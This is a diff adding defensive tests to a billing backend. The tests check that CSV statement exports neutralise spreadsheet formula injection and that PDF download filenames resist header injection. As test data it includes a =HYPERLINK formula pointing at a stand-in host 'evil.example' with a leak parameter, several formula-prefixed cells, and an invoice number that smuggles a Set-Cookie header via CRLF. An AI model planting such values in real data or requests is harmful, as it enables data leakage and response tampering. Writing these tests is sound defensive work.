@@ -99,3 +99,71 @@ async def test_reports_need_a_signed_in_user(api: Api, demo: Any) -> None:
     assert (
         await api.http.get("/api/statement", params={"period_from": "2025-01-01", "period_to": "2025-02-01"})
     ).status_code == 401
+
+
+async def test_no_cell_of_the_statement_csv_is_a_formula_and_amounts_stay_numbers(api: Api, factory: Any) -> None:
+    """Outside data in every text column: an account name from the ERP feed, an invoice number (a payment's
+    reference when the payer wrote it), a customer's dispute description. Each is written as text."""
+    account = await factory.account(name='=HYPERLINK("http://evil.example/?leak","Statement")')
+    invoice = await factory.invoice(account, total=Decimal("50.00"))
+    await factory.dispute(invoice, amount=Decimal("10.00"))
+    async with system_session(factory.sessionmaker) as db:
+        stored = await db.get(Invoice, invoice.id)
+        assert stored is not None
+        stored.number = "+X+1"
+        await db.commit()
+    clerk = await factory.user("ar_clerk")
+    await api.login(clerk.email, "correct horse battery")
+    today = date.today()
+    params = {"period_from": str(today - timedelta(days=30)), "period_to": str(today), "format": "csv"}
+
+    response = await api.http.get("/api/statement", params={**params, "account_id": str(account.id)})
+
+    rows = list(csv.reader(io.StringIO(response.text)))
+    cells = [cell for r in rows for cell in r]
+    assert rows[0][2] == "'" + account.name and any(cell == "'+X+1" for cell in cells)
+    assert not [cell for cell in cells if cell[:1] in {"=", "+", "@", "\t", "\r"}]
+    assert Decimal(rows[-1][6]) == Decimal("50.00")  # the closing balance is still a number
+
+
+def test_every_text_cell_that_a_spreadsheet_would_run_is_neutralised_and_numbers_are_not() -> None:
+    from backend.reports.spreadsheet import csv_text
+
+    hostile = ["=1+2", "+X+1", "-X-1", "@SUM(1)", "\tX", "\rX", "=HYPERLINK(\"http://e.example\",\"x\")"]
+    rows = list(csv.reader(io.StringIO(csv_text([[*hostile, Decimal("-12.50"), 7, date(2026, 1, 2), None]]))))
+
+    assert rows[0][: len(hostile)] == ["'" + value for value in hostile]
+    assert rows[0][len(hostile) :] == ["-12.50", "7", "2026-01-02", ""]
+
+
+async def test_a_pdf_whose_invoice_number_breaks_a_header_still_downloads_under_a_safe_name(
+    api: Api, factory: Any
+) -> None:
+    account = await factory.account()
+    invoice = await factory.invoice(account)
+    async with system_session(factory.sessionmaker) as db:
+        stored = await db.get(Invoice, invoice.id)
+        assert stored is not None
+        stored.number = 'X"Q\r\nSet-Cookie: a=b'  # as it was before the feed refused such numbers
+        await db.commit()
+    clerk = await factory.user("ar_clerk")
+    await api.login(clerk.email, "correct horse battery")
+
+    response = await api.http.get(f"/api/invoices/{invoice.id}/pdf")
+
+    assert response.status_code == 200 and response.content.startswith(b"%PDF")
+    disposition = response.headers["content-disposition"]
+    assert disposition.startswith('attachment; filename="X_QSet-Cookie: a=b.pdf"; filename*=UTF-8\'\'')
+    assert "set-cookie" not in {name.lower() for name in response.headers if name.lower() != "content-disposition"}
+
+
+def test_an_attachment_header_quotes_nothing_it_should_not_and_keeps_the_exact_name() -> None:
+    from urllib.parse import unquote
+
+    from documents.disposition import attachment
+
+    header = attachment('Café "menu"\r\n\\x.pdf')
+    plain, exact = header.split("; filename*=UTF-8''")
+    assert plain == 'attachment; filename="Caf_ _menu_\\x.pdf"'.replace("\\x", "_x")
+    assert unquote(exact) == 'Café "menu"\\x.pdf'
+    assert attachment("\r\n") == "attachment; filename=\"download\"; filename*=UTF-8''download"
